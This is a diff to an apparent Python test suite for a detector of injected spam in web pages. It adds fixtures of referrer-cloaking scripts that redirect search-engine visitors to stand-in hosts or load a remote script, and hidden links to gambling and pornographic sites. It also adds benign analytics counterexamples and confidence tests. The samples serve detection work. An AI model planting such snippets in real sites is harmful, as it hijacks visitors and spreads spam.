@@ -1,3 +1,4 @@
+# ruff: noqa: E501 - markup reads best as it is sent
 """Injected links, frames, scripts, redirects and titles: every technique found, no honest page accused."""
 
 from __future__ import annotations
@@ -83,6 +84,31 @@ ALARMS = [
     ("<script>setTimeout(\"location.href='http://www.xpj9988.com'\",9)</script>", "injected-script"),
     ("<script>if(/sogou/.test(document.referrer))location='//www.example.com/'</script>", "injected-script"),
     ('<meta http-equiv=refresh content="0;url=http://www.example.com/">', "injected-redirect"),
+    (
+        "<script>(function(){var r=document['ref'+'errer'];if(r.match(/baidu|sogou|so\\.com/)){window.top.location.replace("
+        "'http://m.example.com')}})()</script>",
+        "injected-script",
+    ),
+    (
+        "<script>var u='';if(/baidu/.test(document.referrer)){u='//m.example.com/'}if(u){top.location=u}</script>",
+        "injected-script",
+    ),
+    (
+        "<script>var i=function(){return /sogou|baidu/.test(document.referrer)};function go(){var s=document.createElement("
+        "'script');s.src='//www.example.com/a.js';document.body.appendChild(s)}if(i()){go()}</script>",
+        "injected-script",
+    ),
+    (
+        "<div id=f></div><script>document.getElementById('f').innerHTML+='<a href=\"http://www.bocai-x.example/\">"
+        "某某直播</a>'</script>",
+        "injected-link",
+    ),
+    ("<script>f.innerHTML+='<a href=\"http://www.example.com/\">某某情色直播</a>'</script>", "injected-link"),
+    (
+        '<div style="display:none"><a href="http://www.example.com/">澳门赌场</a></div><script>var from=document.referrer;'
+        'var re=new RegExp(" ","gi");from=from.replace(re,"");</script>',
+        "injected-link",
+    ),
 ]
 
 INNOCENT = [
@@ -101,6 +127,16 @@ INNOCENT = [
     "<script>location.href='/index.html'</script>",
     "<script>if(document.referrer){location.href='http://www.qinghe.gov.cn/new'}</script>",
     '<meta http-equiv="refresh" content="3;url=http://www.example.com/"><p>本站已迁移，正在跳转到新网址</p>',
+    "<script>(function(){var s=document.createElement('script');s.src='https://push.example.com/push.js';document.body"
+    ".appendChild(s);var from=/baidu|sogou|google/.test(document.referrer)?'search':'direct';window._from=from})()</script>",
+    "<script>document.write('<script src=\"//tj.example.com/tj.js\"><\\/script>');var r=document.referrer,k='';if(/baidu/.test"
+    "(r)){k='baidu'}else if(/so\\.com/.test(r)){k='360'}_tj.push(['from',k])</script>",
+    "<script>if(/baidu|google/.test(document.referrer)){(new Image).src='//tj.example.com/b.gif';var i=new Image();"
+    "i.src='//tj.example.com/s.gif?r='+document.referrer}</script>",
+    "<script>if(!/bot|spider|crawl/i.test(navigator.userAgent)){var s=document.createElement('script');"
+    "s.src='//tj.example.com/t.js';document.head.appendChild(s)}</script>",
+    "<script>var u='http://share.example.com/?from='+encodeURIComponent(document.referrer);var e={baidu:'百度'};"
+    "function share(){window.open(u)}</script>",
 ]
 
 
@@ -287,3 +323,21 @@ def test_hostile_pages_cost_bounded_time(parsed, html):
     started = time.process_time()
     found(page)
     assert time.process_time() - started < 2
+
+
+STATE_BODIES = (
+    "<p>国务院直属事业单位</p><div id=x></div><script>document.getElementById('x').innerHTML=\"<a href='http://203.0.113.89/xhs/'>"
+    "<li>新华通讯社</li></a><a href='http://www.cas.cn/'><li>中国科学院</li></a>\"</script>"
+)
+CERTAINTIES = [
+    (STATE_BODIES, Confidence.SUSPECTED),
+    (STATE_BODIES.replace("新华通讯社", "澳门赌场"), Confidence.CONFIRMED),
+    (f'<div style="position:absolute;left:-9999px">{STATE_BODIES}</div>', Confidence.SUSPECTED),
+    ('<div style="position:absolute;left:-9999px"><a href="http://203.0.113.89/">abc</a></div>', Confidence.CONFIRMED),
+    ("<script>document.write('<a href=http://12345.top/>abc</a>')</script>", Confidence.SUSPECTED),
+]
+
+
+@pytest.mark.parametrize(("body", "confidence"), CERTAINTIES)
+def test_only_words_and_hiding_make_an_alarm_certain(parsed, body, confidence):
+    assert [finding.confidence for finding in found(parsed(PAGE.format(body)))] == [confidence]
